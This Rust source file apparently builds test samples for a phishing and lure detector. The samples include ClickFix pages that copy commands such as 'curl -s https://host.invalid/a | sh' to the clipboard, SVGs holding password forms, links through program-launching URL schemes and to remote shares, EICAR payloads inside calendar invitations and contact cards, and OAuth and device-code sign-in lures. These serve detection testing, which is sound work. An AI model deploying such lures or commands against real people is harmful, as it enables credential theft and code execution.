//! A17, A18, A26, A31, A33: what leads people on without a file: commands to paste, pictures that are pages, links that start a
//! program, invitations and cards, sign-ins for somebody else.

use crate::Standin;
use crate::build::page::{html, pdf};
use crate::build::{base64, eicar, hex};

const PAGES: &str = "detect/pages";
const SCHEMES: &str = "detect/schemes";
const CALENDAR: &str = "formats/calendar";
const LEAVES: &str = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";

pub(super) fn all() -> Vec<Standin> {
    [pasted(), pictures(), links(), invitations(), sign_ins()].concat()
}

/// A mail of this type with this body.
fn mail(media_type: &str, body: &str) -> Vec<u8> {
    format!("From: a@sender.invalid\r\nTo: b@reader.invalid\r\nSubject: Documents\r\nDate: Mon, 5 Jan 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: {media_type}; charset=utf-8\r\n\r\n{body}\r\n").into_bytes()
}

#[rustfmt::skip]
fn pasted() -> Vec<Standin> {
    let page = |what, body: &str| Standin::new("A17", PAGES, "check.html", what, html("", body)).technique("T1204.004").suspicious();
    let of_site = |name, what, text: &str| Standin::new("A17", "detect/clipboard", name, what, text.into());
    vec![
        of_site("copy.js", "a script that talks people into pasting what it copies", "function show() {\n  const text = 'Press Windows+R, then Ctrl+V, then Enter';\n  document.querySelector('p').textContent = text;\n  navigator.clipboard.writeText('powershell -w hidden -c echo hello');\n}\nwindow.addEventListener('load', show);\n").finds("page.click-fix").suspicious().blocked(),
        // Alone it is data; the engine puts it together with a page of the same site that copies.
        of_site("strings.json", "a command and its lure in data that a page fetches", "{\"title\": \"I am not a robot\", \"steps\": \"Press Windows+R, then Ctrl+V\", \"value\": \"mshta https://host.invalid/a\"}").finds("page.command-text").finds("page.lure-words"),
        page("a page that asks to paste after Alt and F2", "<p>Verify you are human: press Alt+F2, press Ctrl+V and Enter.</p><button onclick=\"navigator.clipboard.writeText('curl -s https://host.invalid/a | sh')\">OK</button>").held(),
        page("a page that asks to paste into the address bar of Explorer", "<p>Open File Explorer and paste the file path into Explorer's address bar.</p><button onclick=\"navigator.clipboard.writeText('powershell -c echo hello # offer.docx')\">Copy</button>").held(),
        page("a page that copies by names in pieces", "<p>I am not a robot</p><script>navigator['clip' + 'board']['write' + 'Text']('power' + 'shell -c echo hello')</script>").held(),
        page("a page that copies a command in hexadecimal, as chains keep it", &format!("<p>I am not a robot</p><button>OK</button><script>const c = \"{}\"; document.querySelector('button').onclick = () => navigator.clipboard.writeText(decode(c))</script>", hex(b"powershell -c echo hello"))).blocked(),
    ]
}

#[rustfmt::skip]
fn pictures() -> Vec<Standin> {
    let svg = |what, inner: &str| {
        let bytes = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">{inner}</svg>").into_bytes();
        Standin::new("A18", PAGES, "photo.svg", what, bytes).kind("svg").finds("page.active-image").technique("T1027.017").held()
    };
    vec![
        svg("an SVG that asks for a password", "<foreignObject width=\"9\" height=\"9\"><form xmlns=\"http://www.w3.org/1999/xhtml\" action=\"https://host.invalid/\"><input type=\"password\" name=\"a\"/></form></foreignObject>"),
        svg("an SVG with a page of another site in it", "<foreignObject width=\"9\" height=\"9\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://host.invalid/\"/></foreignObject>"),
        svg("an SVG that leads to another page by itself", "<meta xmlns=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\" content=\"0;url=https://host.invalid/\"/>"),
        svg("an SVG that animates where its link leads", "<a href=\"#\"><animate attributeName=\"href\" values=\"https://host.invalid/\"/><rect width=\"9\" height=\"9\"/></a>"),
    ]
}

#[rustfmt::skip]
fn links() -> Vec<Standin> {
    let page = |what, body: &str| Standin::new("A26", SCHEMES, "offer.html", what, html("", body));
    let anchor = |what, place: &str| page(what, &format!("<a href=\"{place}\">Open the document</a>"));
    // What asks before it does anything weighs little where a person clicks.
    let asks = |what, place: &str| anchor(what, place).finds("link.starts-program").technique("T1204.001");
    let starts = |what, place: &str| asks(what, place).suspicious().held();
    let by_itself = |what, head: &str, body: &str| {
        Standin::new("A26", SCHEMES, "offer.html", what, html(head, body)).finds("link.starts-program").suspicious().held()
    };
    let app = "ms-appinstaller:?source=https://host.invalid/a.msix";
    let leaf = format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({app}) >> >>] >>");
    vec![
        starts("a link that installs a package of Windows", app),
        starts("a link that opens a script in the editor of macOS", "applescript://com.apple.scripteditor?action=new&amp;script=display%20dialog%20%22hello%22"),
        starts("a link that starts a program of Java", "jnlp://host.invalid/a.jnlp"),
        starts("a link that shows the files of another machine", "search-ms:query=offer&amp;crumb=location:\\\\host.invalid\\share").technique("T1187"),
        starts("a link whose scheme is written in odd ways", "MS-\tAPPINSTALLER&#58;?source=https://host.invalid/a.msix"),
        anchor("a link to a share of the web", "file://host.invalid@SSL/DavWWWRoot/offer.pdf.lnk").finds("link.web-share").technique("T1187").held(),
        asks("a link that opens Word with a document from elsewhere", "ms-word:ofe|u|https://host.invalid/a.docm"),
        asks("a link that imports a shortcut", "shortcuts://import-shortcut?url=https://host.invalid/a.shortcut"),
        asks("a link that installs an app of iOS", "itms-services://?action=download-manifest&amp;url=https://host.invalid/a.plist"),
        asks("a link that lets somebody help from afar", "ms-quick-assist:"),
        asks("a link that gives Visual Studio Code a server for agents", "vscode:mcp/install?%7B%22name%22%3A%22a%22%2C%22command%22%3A%22echo%22%7D"),
        asks("a link that gives Cursor a server for agents", "cursor://anysphere.cursor-deeplink/mcp/install?name=a&amp;config=e30="),
        asks("a link that opens a folder of Windows", "shell:startup"),
        by_itself("a page that opens Word by itself", "<meta http-equiv=\"refresh\" content=\"0;url=ms-word:ofe|u|https://host.invalid/a.docm\">", "<p>Please wait.</p>"),
        by_itself("a page that opens remote help in a frame", "", "<iframe src=\"ms-quick-assist:\"></iframe>"),
        by_itself("a page whose script starts a command of Office", "", "<script>location.href = \"ms-officecmd:{}\"</script>"),
        Standin::new("A26", SCHEMES, "offer.pdf", "a PDF with a link that installs a package", pdf(&["<< /Type /Catalog /Pages 2 0 R >>", LEAVES, leaf.as_str()])).kind("pdf").finds("link.starts-program").held(),
        Standin::new("A26", SCHEMES, "offer.eml", "a mail with a link that installs a package", mail("text/html", &format!("<html><body><a href=\"{app}\">offer</a></body></html>"))).kind("eml").finds("link.starts-program").held(),
    ]
}

#[rustfmt::skip]
fn invitations() -> Vec<Standin> {
    let new = |name, what, text: String| Standin::new("A31", CALENDAR, name, what, text.into());
    let event = |what, line: &str| {
        new("offer.ics", what, format!("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//host.invalid//EN\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260105T100000Z\r\nSUMMARY:Offer\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")).kind("ics")
    };
    let card = |what, line: &str| new("ada.vcf", what, format!("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada\r\nN:;Ada;;;\r\n{line}\r\nEND:VCARD\r\n")).kind("vcard");
    let contact = |what, inner: &str| {
        new("ada.contact", what, format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<c:contact c:Version=\"1\" xmlns:c=\"http://schemas.microsoft.com/Contact\"><c:NameCollection><c:Name c:ElementID=\"1\"><c:FormattedName>Ada</c:FormattedName></c:Name></c:NameCollection>{inner}</c:contact>\n")).kind("contact")
    };
    let coded = base64(&eicar());
    // The padding makes it as long as the least of pictures.
    let picture = base64(&[eicar(), vec![b' '; 40]].concat());
    vec![
        event("an invitation whose address shows the files of another machine", "URL:search-ms:query=a&crumb=location:\\\\host.invalid\\share").finds("link.starts-program"),
        event("an invitation with a file of another machine", "ATTACH:file://host.invalid/share/a.pdf").technique("T1187"),
        event("an invitation whose text has a link that installs a package", "DESCRIPTION:See ms-appinstaller:?source=https://host.invalid/a.msix").finds("link.starts-program").held(),
        event("an invitation with a page that copies a command", "X-ALT-DESC;FMTTYPE=text/html:<html><body><p>Press Windows+R and then Ctrl+V</p><script>navigator.clipboard.writeText('powershell -c echo hello')</script></body></html>").finds("page.click-fix").held(),
        event("an invitation with a page with a payload", &format!("X-ALT-DESC;FMTTYPE=text/html:<html><body><a href=\"data:application/octet-stream\\;base64\\,{coded}\" download=\"a.com\">offer</a></body></html>")).payload("a.com"),
        card("an address card with a picture on another machine", "PHOTO;VALUE=uri:\\\\host.invalid\\share\\a.png").technique("T1187"),
        card("an address card whose picture is a payload", &format!("PHOTO;ENCODING=b;TYPE=JPEG:{coded}")).payload("photo"),
        card("an address card with a link that installs a package", "URL:ms-appinstaller\\:?source=https\\://host.invalid/a.msix").finds("link.starts-program").held(),
        contact("a contact of Windows that leads to a share", "<c:UrlCollection><c:Url c:ElementID=\"1\"><c:Value>file://host.invalid/share/ada.exe</c:Value></c:Url></c:UrlCollection>").technique("T1187"),
        contact("a contact of Windows whose picture is a payload", &format!("<c:PhotoCollection><c:Photo c:ElementID=\"1\"><c:Value c:ContentType=\"image/jpeg\">{picture}</c:Value></c:Photo></c:PhotoCollection>")).payload("value"),
    ]
}

/// Sign-ins that people do for somebody else: what is asked for weighs little by itself, and policy may go by it.
#[rustfmt::skip]
fn sign_ins() -> Vec<Standin> {
    let lure = |name, what, bytes| Standin::new("A33", PAGES, name, what, bytes).finds("page.sign-in-lure").technique("T1528");
    let link = |back: &str| format!("https://login.invalid/common/oauth2/v2.0/authorize?client_id=a&amp;response_type=code&amp;redirect_uri={back}&amp;scope=openid");
    let local = format!("<a href=\"{}\">Sign in</a><p>Then copy the full URL from the address bar and paste it here:</p><form action=\"https://host.invalid/\"><input name=\"code\"></form>", link("http%3A%2F%2Flocalhost"));
    let shown = format!("<p>Paste the code below</p><script>open('{}')</script>", link("urn:ietf:wg:oauth:2.0:oob").replace("&amp;", "&"));
    vec![
        lure("sign-in.html", "a page that asks for the address to which a sign-in leads", html("", &local)),
        lure("sign-in.html", "a page that asks for the code that a sign-in shows", html("", &shown)),
        lure("device.html", "a page that asks to enter a code for another device", html("", "<p>To see the file, enter the code <b>ABCD1234</b> at <a href=\"https://microsoft.com/devicelogin\">the sign-in page</a>.</p>")),
        lure("voice.eml", "a mail that asks to enter a code for another device", mail("text/plain", "To hear the message, open https://microsoft.com/devicelogin and enter the code ABCD1234.")),
    ]
}
